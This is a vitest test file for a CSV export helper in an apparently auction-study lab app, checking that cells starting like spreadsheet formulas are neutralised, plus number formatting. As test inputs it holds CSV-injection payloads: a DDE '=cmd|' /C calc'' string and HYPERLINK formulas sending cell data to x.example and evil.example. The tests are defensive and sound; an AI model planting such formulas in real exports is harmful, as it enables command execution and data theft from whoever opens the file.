import { describe, expect, it } from 'vitest';
import { defaultsOf } from '../config/schema';
import { optimalAuctionSchema } from '../labs/optimalAuction/schema';
import { askTrial, newStudy, tellTrial, trialsCsv } from '../labs/optimalAuction/study';
import { csvCell, csvRow, csvText, formatCsvNumber, formatCsvPrecise } from './csv';

describe('csvText: formula neutralisation (OWASP CSV injection)', () => {
  it('prefixes a quote and quotes cells that start like a formula', () => {
    expect(csvText('=1+1')).toBe(`"'=1+1"`);
    expect(csvText('+41 79')).toBe(`"'+41 79"`);
    expect(csvText('-x')).toBe(`"'-x"`);
    expect(csvText('@SUM(A1:A2)')).toBe(`"'@SUM(A1:A2)"`);
    expect(csvText('\t=1')).toBe(`"'\t=1"`);
    expect(csvText('\r=1')).toBe(`"'\r=1"`);
    expect(csvText('\n=1')).toBe(`"'\n=1"`);
    expect(csvText('\0=1')).toBe(`"'\0=1"`);
  });

  it('doubles inner quotes of a neutralised cell, so it cannot break out into a new cell', () => {
    expect(csvText('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(csvText(`=cmd|' /C calc'!A0`)).toBe(`"'=cmd|' /C calc'!A0"`);
  });

  it('leaves text alone that does not start like a formula (RFC 4180 quoting: see exportRuns.test.ts)', () => {
    for (const t of ['first-price', 'a=b', ' =1', "'quoted", '']) expect(csvText(t)).toBe(t);
  });
});

describe('csvCell', () => {
  it('keeps numbers numbers: negative values are not neutralised', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(-1 / 3)).toBe('-0.333333');
    expect(csvCell(-Infinity)).toBe('-Inf');
    expect(csvCell(-1 / 3, String)).toBe(String(-1 / 3));
    expect(csvCell(-3n)).toBe('-3');
  });

  it('neutralises strings that look like negative numbers (text stays text)', () => {
    expect(csvCell('-0.5')).toBe(`"'-0.5"`);
  });

  it('writes empty, boolean and object cells', () => {
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(false)).toBe('false');
    expect(csvCell({ a: 1, b: 2 })).toBe('"{""a"":1,""b"":2}"');
    expect(csvCell([-1, 2])).toBe('"[-1,2]"');
  });

  it('formats numbers with formatCsvNumber by default', () => {
    expect(csvCell(1 / 3)).toBe(formatCsvNumber(1 / 3));
  });
});

describe('csvRow', () => {
  it('joins encoded cells with commas', () => {
    expect(csvRow(['=1', -1.5, 'ok', undefined, 'a,b'])).toBe(`"'=1",-1.5,ok,,"a,b"`);
    expect(csvRow([0.1 + 0.2], String)).toBe('0.30000000000000004');
  });
});

describe('trials.csv with a hostile error message', () => {
  it('neutralises the text cell and keeps 12 significant digits', () => {
    let r = newStudy({ ...defaultsOf(optimalAuctionSchema), study: 2, studyStartup: 2 }, 1, 0);
    r = askTrial(r, 2, 0).record;
    r = tellTrial(r, 0, { error: '=HYPERLINK("http://evil.example","x")' }, 1);
    const row = trialsCsv(r).trim().split('\n')[1];
    expect(row.endsWith(`,"'=HYPERLINK(""http://evil.example"",""x"")"`)).toBe(true);
    expect(row.startsWith('0,failed,')).toBe(true);
    const lr = r.trials[0].params.lr;
    expect(row).toContain(`,${String(Number(lr.toPrecision(12)))},`);
  });
});

describe('numbers without floating-point noise', () => {
  it('writes round-off of zero as 0 and rounds binary noise away', () => {
    expect(formatCsvNumber(1.03727e-17)).toBe('0');
    expect(formatCsvNumber(-3.55e-15)).toBe('0');
    expect(formatCsvPrecise(1.03727e-17)).toBe('0');
    expect(formatCsvPrecise(0.1 + 0.2)).toBe('0.3');
    expect(formatCsvPrecise(1 / 3)).toBe('0.333333333333');
    expect(formatCsvPrecise(2.5e-9)).toBe('2.5e-9');
    expect(formatCsvPrecise(12345678901)).toBe('12345678901');
  });
});
